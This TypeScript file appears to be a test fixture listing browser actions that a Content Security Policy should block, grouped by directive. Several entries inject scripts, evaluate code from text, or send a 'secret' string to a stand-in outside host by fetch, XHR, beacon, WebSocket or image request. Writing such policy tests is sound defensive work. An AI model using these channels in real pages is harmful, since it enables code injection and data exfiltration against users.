/** What code on the page could try: each by itself, in the page. They come through as text, so they use nothing outside. */

type Attempt = (elsewhere: string) => unknown;

/** By the directive that forbids it. */
export const IN_PAGE: Readonly<Record<string, Readonly<Record<string, Attempt>>>> = {
  'require-trusted-types-for': {
    'a script in the page': () => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.broken = 1';
      document.body.append(script);
    },
    'markup as text': (elsewhere) => {
      document.body.insertAdjacentHTML('beforeend', `<img src="${elsewhere}markup.png">`);
    },
    'markup in a document of its own': () => new DOMParser().parseFromString('<p>', 'text/html'),
    'a handler as text': () => {
      document.body.setAttribute('onclick', 'globalThis.broken = 1');
      document.body.click();
    },
    'a frame by its source': () => {
      document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<p>' }));
    },
    'code as text': () => {
      // Not at once: what the test runs in the page may evaluate text.
      setTimeout(() => {
        Reflect.apply(Reflect.get(globalThis, 'eval') as Attempt, null, ['globalThis.broken = 1']);
      });
    },
    'a function as text': () => {
      setTimeout(() => Reflect.apply(Reflect.get(globalThis, 'Function') as Attempt, null, ['return 1']));
    },
    'code for later, as text': () =>
      Reflect.apply(Reflect.get(globalThis, 'setTimeout') as Attempt, null, ['globalThis.broken = 1']),
  },
  // By our own rule for the addresses of scripts.
  'not a script of this page': {
    'a script from elsewhere': (elsewhere) => {
      const script = document.createElement('script');
      script.setAttribute('src', `${elsewhere}script.js`);
      document.body.append(script);
    },
    'a script in its address': () => {
      const script = document.createElement('script');
      script.src = 'data:text/javascript,globalThis.broken=1';
      document.body.append(script);
    },
    'a worker from a blob': () => new Worker(URL.createObjectURL(new Blob(['globalThis.broken = 1']))),
    'a worker from elsewhere': (elsewhere) => new Worker(`${elsewhere}worker.js`),
    'a service worker that is not ours': () => navigator.serviceWorker.register('./other.js'),
    'an object': (elsewhere) => {
      document.body.append(
        Object.assign(document.createElement('object'), {
          data: `${elsewhere}object.pdf`,
          type: 'application/pdf',
        }),
      );
    },
    'an embedded one': (elsewhere) => {
      document.body.append(Object.assign(document.createElement('embed'), { src: `${elsewhere}embed.html` }));
    },
  },
  'trusted-types': {
    'a second rule for what is trusted': () =>
      (
        Reflect.get(globalThis, 'trustedTypes') as { createPolicy(name: string, rules: object): unknown }
      ).createPolicy('another', { createHTML: (text: string) => text }),
  },
  'script-src-elem': {
    'a module from elsewhere': (elsewhere) => import(/* @vite-ignore */ `${elsewhere}module.js`),
    'a module in its address': () =>
      import(/* @vite-ignore */ ['data:text/javascript', 'globalThis.broken=1'].join(',')),
    'a link that is a script': () => {
      Object.assign(document.createElement('a'), { href: 'javascript:globalThis.broken=1' }).click();
    },
    'a module to be loaded ahead': (elsewhere) => {
      const link = Object.assign(document.createElement('link'), { rel: 'modulepreload' });
      link.href = `${elsewhere}ahead.js`;
      document.head.append(link);
    },
  },
  'connect-src': {
    'a request': (elsewhere) =>
      fetch(`${elsewhere}fetch`, { method: 'POST', body: 'secret', mode: 'no-cors' }),
    'an XMLHttpRequest': (elsewhere) => {
      const request = new XMLHttpRequest();
      request.open('POST', `${elsewhere}xhr`);
      request.send('secret');
    },
    'a beacon': (elsewhere) => navigator.sendBeacon(`${elsewhere}beacon`, 'secret'),
    'a socket': (elsewhere) => new WebSocket(`${elsewhere.replace('http', 'ws')}socket`),
    'a stream of events': (elsewhere) => new EventSource(`${elsewhere}events`),
    'a link that tells': (elsewhere) => {
      Object.assign(document.createElement('a'), { ping: `${elsewhere}ping`, href: '#x' }).click();
    },
  },
  'img-src': {
    'an image': (elsewhere) => {
      document.body.append(Object.assign(new Image(), { src: `${elsewhere}image.png?secret` }));
    },
    'an image in its address': () => {
      document.body.append(Object.assign(new Image(), { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' }));
    },
    'an image behind the text': (elsewhere) => {
      document.body.style.backgroundImage = `url(${elsewhere}background.png)`;
    },
    'another icon': (elsewhere) => {
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'icon', href: `${elsewhere}icon.png` }),
      );
    },
  },
  'style-src-elem': {
    'a style sheet from elsewhere': (elsewhere) => {
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${elsewhere}style.css` }),
      );
    },
    'a style sheet in the page': () => {
      document.head.append(
        Object.assign(document.createElement('style'), { textContent: '* { color: red }' }),
      );
    },
  },
  'style-src-attr': {
    'a style of one element': () => {
      document.body.setAttribute('style', 'color: red');
    },
  },
  'font-src': {
    'a font': (elsewhere) => new FontFace('other', `url(${elsewhere}font.woff2)`).load(),
  },
  'media-src': {
    'a sound': (elsewhere) => {
      document.body.append(new Audio(`${elsewhere}sound.wav`));
    },
  },
  'frame-src': {
    'a frame': (elsewhere) => {
      document.body.append(
        Object.assign(document.createElement('iframe'), { src: `${elsewhere}frame.html` }),
      );
    },
  },
  'form-action': {
    'a form': (elsewhere) => {
      const form = Object.assign(document.createElement('form'), {
        action: `${elsewhere}form`,
        method: 'post',
      });
      document.body.append(form);
      form.submit();
    },
  },
  'base-uri': {
    'another base': (elsewhere) => {
      document.head.append(Object.assign(document.createElement('base'), { href: elsewhere }));
    },
  },
};

/** The same from a worker. */
export const IN_WORKER: typeof IN_PAGE = {
  'connect-src': {
    'a request': (elsewhere) =>
      fetch(`${elsewhere}fetch`, { method: 'POST', body: 'secret', mode: 'no-cors' }),
    'an XMLHttpRequest': (elsewhere) => {
      const request = new XMLHttpRequest();
      request.open('POST', `${elsewhere}xhr`);
      request.send('secret');
    },
    'a socket': (elsewhere) => new WebSocket(`${elsewhere.replace('http', 'ws')}socket`),
    'a stream of events': (elsewhere) => new EventSource(`${elsewhere}events`),
  },
  'script-src-elem': {
    'a module from elsewhere': (elsewhere) => import(/* @vite-ignore */ `${elsewhere}module.js`),
  },
  'require-trusted-types-for': {
    'a worker of a worker': (elsewhere) => new Worker(`${elsewhere}worker.js`),
    'code as text': () => {
      setTimeout(() => {
        Reflect.apply(Reflect.get(globalThis, 'eval') as Attempt, null, ['globalThis.broken = 1']);
      });
    },
  },
};
